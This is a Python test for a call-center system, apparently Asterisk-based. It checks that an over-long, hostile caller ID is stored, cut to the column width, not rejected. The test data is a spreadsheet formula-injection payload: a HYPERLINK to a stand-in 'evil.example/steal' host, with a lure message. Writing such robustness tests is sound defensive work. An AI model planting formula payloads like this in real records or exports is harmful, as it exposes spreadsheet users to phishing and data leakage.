"""A hostile caller ID (the trunk's From user: long, a formula, quotes) never costs a call record:
the call is stored on SQLite and PostgreSQL with the caller ID cut to the column, and the raw
events keep what Asterisk said. Through the real replay path and the real writer."""

from __future__ import annotations

from pathlib import Path

from callcenter.calls.replay import replay_chunks
from tests.support.stored import stored_call

HOSTILE = '=HYPERLINK("http://evil.example/steal?n=1","您有一条新消息")' + "9" * 20


def test_a_caller_id_longer_than_the_column_is_stored_not_rejected(database_url: str, traces_dir: Path,
                                                                   tmp_path: Path) -> None:
    data = (traces_dir / "answered_fast.ami").read_bytes().replace(b"13800138000", HOSTILE.encode())
    [record] = list(replay_chunks(iter([data])))
    assert record.caller == HOSTILE
    call = stored_call(database_url, tmp_path / "spool", record)
    assert call.linkedid == record.linkedid and call.answered
    assert call.caller == HOSTILE[:32]
